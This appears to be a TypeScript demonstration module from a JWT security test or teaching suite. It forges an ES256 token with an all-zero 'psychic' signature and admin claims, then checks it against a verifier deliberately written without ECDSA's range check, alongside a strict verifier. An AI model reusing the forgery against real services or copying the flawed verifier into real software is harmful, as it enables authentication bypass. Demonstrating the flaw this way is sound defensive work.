import { encodeBase64Url } from '@mintmark/inspect/token';
import { createVerifier } from '@mintmark/jose';
import { segmentOf } from '../samples/encoding.ts';
import { makeIssuer, parties, sampleKid } from '../samples/parties.ts';
import { answerOf, type Attack, type NaiveRun } from './attack.ts';
import { shown, takeApart } from './take-apart.ts';

/** The order of the curve P-256 (NIST SP 800-186 §3.2.1.3). */
const order = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n;

/** A signature of two zeros, for any message and any key. */
export const psychicSignature: Attack = async (now) => {
  const issuer = await makeIssuer();
  const iat = Math.floor(now / 1000);
  const claims = { iss: parties.issuer, aud: parties.api, sub: 'mallory', admin: true, iat, exp: iat + 300 };
  const input = `${segmentOf({ alg: 'ES256', typ: 'at+jwt', kid: sampleKid })}.${segmentOf(claims)}`;
  const token = `${input}.${encodeBase64Url(new Uint8Array(64))}`;
  const strict = createVerifier({
    keys: issuer.publicKey,
    algorithms: ['ES256'],
    issuer: parties.issuer,
    audience: parties.api,
    now: () => now,
  });
  return {
    token,
    naive: await verifyNaively(token),
    strict: [await answerOf(async () => strict.verify(token))],
  };
};

/** Wrong on purpose: the equation of ECDSA (FIPS 186-5 §6.4.2) without its first step, the look at the range. */
async function verifyNaively(token: string): Promise<NaiveRun> {
  const { claims, input, signatureBytes } = takeApart(token);
  const r = toInteger(signatureBytes.subarray(0, 32));
  const s = toInteger(signatureBytes.subarray(32));
  const hash = toInteger(
    new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(input))),
  );
  const inverse = power(s, order - 2n);
  const [ofBase, ofKey] = [(hash * inverse) % order, (r * inverse) % order];
  // Zero times any point is the point at infinity, which has no coordinates; Java took x as 0.
  const x = ofBase === 0n && ofKey === 0n ? 0n : undefined;
  return {
    steps: [
      `r = ${r}, s = ${s}`,
      `s⁻¹ = ${inverse}; u₁ = ${ofBase}, u₂ = ${ofKey}`,
      `x = ${x}`,
      `${x} = ${r}`,
      shown(claims, 'admin'),
    ],
    accepted: x === r,
  };
}

function toInteger(bytes: Uint8Array): bigint {
  return bytes.reduce((value, byte) => value * 256n + BigInt(byte), 0n);
}

/** Fermat: a^(n−2) is the inverse of a modulo a prime n, but for 0, which has none and gives 0. */
function power(base: bigint, exponent: bigint): bigint {
  let result = 1n;
  let square = base % order;
  for (let rest = exponent; rest > 0n; rest >>= 1n) {
    if (rest & 1n) result = (result * square) % order;
    square = (square * square) % order;
  }
  return result;
}
